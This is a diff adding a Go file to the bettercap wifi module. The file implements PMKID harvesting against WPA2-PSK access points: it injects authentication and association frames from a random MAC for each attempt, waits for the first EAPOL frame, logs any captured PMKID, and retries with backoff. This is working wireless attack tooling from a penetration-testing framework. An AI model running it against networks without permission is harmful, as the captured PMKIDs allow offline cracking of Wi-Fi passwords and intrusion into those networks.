@@ -0,0 +1,340 @@
+package wifi
+
+import (
+	"bytes"
+	"crypto/rand"
+	"fmt"
+	"net"
+	"sort"
+	"sync/atomic"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/evilsocket/islazy/ops"
+)
+
+type pmkidTarget struct {
+	ap       *network.AccessPoint
+	attempts int
+	next     time.Time
+}
+
+type pmkidHarvestStats struct {
+	started  time.Time
+	total    uint64
+	done     uint64
+	captured uint64
+	missing  uint64
+	failed   uint64
+}
+
+type pmkidHarvest struct {
+	ap      net.HardwareAddr
+	sta     net.HardwareAddr
+	frames  chan []byte
+	timeout time.Duration
+	retries int
+	backoff time.Duration
+	stats   pmkidHarvestStats
+}
+
+// random locally administered unicast address, a new one is used for
+// every association attempt so that the AP never sees a known station.
+func pmkidRandomMAC() net.HardwareAddr {
+	hw := make([]byte, 6)
+	rand.Read(hw)
+	hw[0] = (hw[0] | 0x02) & 0xfe
+	return net.HardwareAddr(hw)
+}
+
+func isPMKIDTarget(ap *network.AccessPoint) bool {
+	if ap.Encryption != "WPA2" {
+		return false
+	}
+	switch ap.Authentication {
+	case packets.Dot11AuthPsk.String(), packets.Dot11AuthFtPsk.String(), packets.Dot11AuthPskSha256.String():
+		return true
+	}
+	return false
+}
+
+func (mod *WiFiModule) isPMKIDRunning() bool {
+	mod.pmkidLock.Lock()
+	defer mod.pmkidLock.Unlock()
+	return mod.pmkid != nil
+}
+
+func (mod *WiFiModule) isPMKIDActive(harvest *pmkidHarvest) bool {
+	mod.pmkidLock.Lock()
+	defer mod.pmkidLock.Unlock()
+	return mod.Running() && mod.pmkid == harvest
+}
+
+// isPMKIDStation returns true if the given station address is the one
+// currently used by the PMKID harvester.
+func (mod *WiFiModule) isPMKIDStation(sta net.HardwareAddr) bool {
+	mod.pmkidLock.Lock()
+	defer mod.pmkidLock.Unlock()
+	return mod.pmkid != nil && mod.pmkid.sta != nil && bytes.Equal(mod.pmkid.sta, sta)
+}
+
+// onPMKIDFrame is called by the handshake parser when the first EAPOL frame
+// addressed to the harvester station is received, rawPMKID is nil if the
+// AP didn't include one.
+func (mod *WiFiModule) onPMKIDFrame(ap net.HardwareAddr, sta net.HardwareAddr, rawPMKID []byte) {
+	mod.pmkidLock.Lock()
+	defer mod.pmkidLock.Unlock()
+
+	if h := mod.pmkid; h != nil && bytes.Equal(h.sta, sta) && bytes.Equal(h.ap, ap) {
+		select {
+		case h.frames <- rawPMKID:
+		default:
+		}
+	}
+}
+
+func (mod *WiFiModule) pmkidSetStation(harvest *pmkidHarvest, ap net.HardwareAddr, sta net.HardwareAddr) {
+	mod.pmkidLock.Lock()
+	defer mod.pmkidLock.Unlock()
+	harvest.ap = ap
+	harvest.sta = sta
+	// drop anything left over from the previous attempt
+	for len(harvest.frames) > 0 {
+		<-harvest.frames
+	}
+}
+
+func (mod *WiFiModule) showPMKIDProgress() error {
+	mod.pmkidLock.Lock()
+	harvest := mod.pmkid
+	mod.pmkidLock.Unlock()
+
+	if harvest == nil {
+		return fmt.Errorf("no PMKID harvesting is running")
+	}
+	mod.pmkidProgress(harvest)
+	return nil
+}
+
+func (mod *WiFiModule) pmkidProgress(harvest *pmkidHarvest) {
+	stats := &harvest.stats
+	done := atomic.LoadUint64(&stats.done)
+	progress := 0.0
+	if stats.total > 0 {
+		progress = 100.0 * (float64(done) / float64(stats.total))
+	}
+	mod.State.Store("pmkid.progress", progress)
+	mod.Info("[%.2f%%] captured %d PMKID%s, %d AP%s without PMKID, %d unreachable, %d/%d access points processed in %s",
+		progress,
+		atomic.LoadUint64(&stats.captured),
+		ops.Ternary(atomic.LoadUint64(&stats.captured) == 1, "", "s"),
+		atomic.LoadUint64(&stats.missing),
+		ops.Ternary(atomic.LoadUint64(&stats.missing) == 1, "", "s"),
+		atomic.LoadUint64(&stats.failed),
+		done,
+		stats.total,
+		time.Since(stats.started))
+}
+
+// pmkidAttempt authenticates and associates with the AP using a fresh random
+// address, waits for the first EAPOL frame and disassociates, it returns
+// whether M1 was received and the PMKID it contained, if any.
+func (mod *WiFiModule) pmkidAttempt(harvest *pmkidHarvest, ap *network.AccessPoint) (gotM1 bool, rawPMKID []byte) {
+	sta := pmkidRandomMAC()
+	mod.pmkidSetStation(harvest, ap.HW, sta)
+	defer mod.pmkidSetStation(harvest, nil, nil)
+
+	mod.onChannel(ap.Channel, func() {
+		if err, pkt := packets.NewDot11Auth(sta, ap.HW, 1); err != nil {
+			mod.Error("could not create auth packet: %s", err)
+			return
+		} else {
+			mod.injectPacket(pkt)
+		}
+
+		if err, pkt := packets.NewDot11AssociationRequest(sta, ap.HW, ap.ESSID(), 2); err != nil {
+			mod.Error("could not create association request packet: %s", err)
+			return
+		} else {
+			mod.injectPacket(pkt)
+		}
+
+		// stay on the AP channel until M1 arrives or we time out
+		select {
+		case rawPMKID = <-harvest.frames:
+			gotM1 = true
+		case <-time.After(harvest.timeout):
+		}
+
+		if err, pkt := packets.NewDot11Disassociation(sta, ap.HW, 3); err != nil {
+			mod.Error("could not create disassociation packet: %s", err)
+		} else {
+			mod.injectPacket(pkt)
+		}
+	})
+
+	return
+}
+
+func (mod *WiFiModule) pmkidHarvestLoop(harvest *pmkidHarvest, targets []*pmkidTarget) {
+	for len(targets) > 0 && mod.isPMKIDActive(harvest) {
+		// pick the first target, in channel order, which is not backing off
+		idx := -1
+		next := time.Time{}
+		now := time.Now()
+		for i, t := range targets {
+			if !t.next.After(now) {
+				idx = i
+				break
+			} else if next.IsZero() || t.next.Before(next) {
+				next = t.next
+			}
+		}
+
+		if idx == -1 {
+			wait := time.Until(next)
+			if wait > time.Second {
+				wait = time.Second
+			}
+			time.Sleep(wait)
+			continue
+		}
+
+		target := targets[idx]
+		ap := target.ap
+		target.attempts++
+
+		mod.Debug("sending PMKID association request to %s (channel:%d attempt:%d/%d)", ap.ESSID(), ap.Channel, target.attempts, harvest.retries+1)
+
+		completed := true
+		if gotM1, rawPMKID := mod.pmkidAttempt(harvest, ap); gotM1 && rawPMKID != nil {
+			atomic.AddUint64(&harvest.stats.captured, 1)
+			mod.Info("captured PMKID %x from %s (%s)", rawPMKID, ap.ESSID(), ap.BSSID())
+		} else if gotM1 {
+			atomic.AddUint64(&harvest.stats.missing, 1)
+			mod.Info("%s (%s) sent the first EAPOL frame without a PMKID", ap.ESSID(), ap.BSSID())
+		} else if target.attempts > harvest.retries {
+			atomic.AddUint64(&harvest.stats.failed, 1)
+			mod.Debug("no EAPOL frame from %s after %d attempts, giving up", ap.ESSID(), target.attempts)
+		} else {
+			backoff := harvest.backoff * time.Duration(1<<uint(target.attempts-1))
+			mod.Debug("no EAPOL frame from %s, retrying in %s", ap.ESSID(), backoff)
+			target.next = time.Now().Add(backoff)
+			completed = false
+		}
+
+		if completed {
+			atomic.AddUint64(&harvest.stats.done, 1)
+			targets = append(targets[:idx], targets[idx+1:]...)
+		}
+	}
+}
+
+func (mod *WiFiModule) startPMKIDHarvest() error {
+	if !mod.Running() {
+		return fmt.Errorf("wifi.recon must be running in order to receive EAPOL frames")
+	} else if mod.isPMKIDRunning() {
+		return fmt.Errorf("PMKID harvesting is already running, use wifi.pmkid.stop first")
+	}
+
+	var err error
+	var timeout, retries, backoff int
+	var acquired bool
+	var skip string
+	var skipList []net.HardwareAddr
+	if err, timeout = mod.IntParam("wifi.pmkid.timeout"); err != nil {
+		return err
+	} else if err, retries = mod.IntParam("wifi.pmkid.retries"); err != nil {
+		return err
+	} else if err, backoff = mod.IntParam("wifi.pmkid.backoff"); err != nil {
+		return err
+	} else if err, acquired = mod.BoolParam("wifi.pmkid.acquired"); err != nil {
+		return err
+	} else if err, skip = mod.StringParam("wifi.pmkid.skip"); err != nil {
+		return err
+	} else if skipList, err = network.ParseMACs(skip); err != nil {
+		return err
+	} else if timeout <= 0 {
+		return fmt.Errorf("wifi.pmkid.timeout must be greater than 0")
+	} else if retries < 0 {
+		return fmt.Errorf("wifi.pmkid.retries can't be negative")
+	}
+
+	targets := make([]*pmkidTarget, 0)
+	for _, ap := range mod.Session.WiFi.List() {
+		skipped := false
+		for _, mac := range skipList {
+			if bytes.Equal(ap.HW, mac) {
+				skipped = true
+				break
+			}
+		}
+
+		if skipped {
+			mod.Debug("skipping %s because of wifi.pmkid.skip", ap.ESSID())
+		} else if !isPMKIDTarget(ap) {
+			mod.Debug("skipping %s (encryption:%s auth:%s)", ap.ESSID(), ap.Encryption, ap.Authentication)
+		} else if ap.HasKeyMaterial() && !acquired {
+			mod.Debug("skipping %s (key material already acquired)", ap.ESSID())
+		} else {
+			targets = append(targets, &pmkidTarget{ap: ap})
+		}
+	}
+
+	if len(targets) == 0 {
+		return fmt.Errorf("no WPA2-PSK access points to harvest PMKIDs from")
+	}
+
+	// minimize the number of channel hops
+	sort.SliceStable(targets, func(i, j int) bool {
+		return targets[i].ap.Channel < targets[j].ap.Channel
+	})
+
+	harvest := &pmkidHarvest{
+		frames:  make(chan []byte, 1),
+		timeout: time.Duration(timeout) * time.Second,
+		retries: retries,
+		backoff: time.Duration(backoff) * time.Second,
+		stats: pmkidHarvestStats{
+			started: time.Now(),
+			total:   uint64(len(targets)),
+		},
+	}
+
+	mod.pmkidLock.Lock()
+	mod.pmkid = harvest
+	mod.pmkidLock.Unlock()
+
+	mod.State.Store("pmkid.progress", 0.0)
+
+	mod.Info("harvesting PMKIDs from %d access point%s ...", len(targets), ops.Ternary(len(targets) == 1, "", "s"))
+
+	mod.writes.Add(1)
+	go func() {
+		defer mod.writes.Done()
+
+		mod.pmkidHarvestLoop(harvest, targets)
+		mod.pmkidProgress(harvest)
+
+		mod.pmkidLock.Lock()
+		if mod.pmkid == harvest {
+			mod.pmkid = nil
+		}
+		mod.pmkidLock.Unlock()
+	}()
+
+	return nil
+}
+
+func (mod *WiFiModule) stopPMKIDHarvest() error {
+	mod.pmkidLock.Lock()
+	defer mod.pmkidLock.Unlock()
+
+	if mod.pmkid == nil {
+		return fmt.Errorf("no PMKID harvesting is running")
+	}
+	mod.pmkid = nil
+	return nil
+}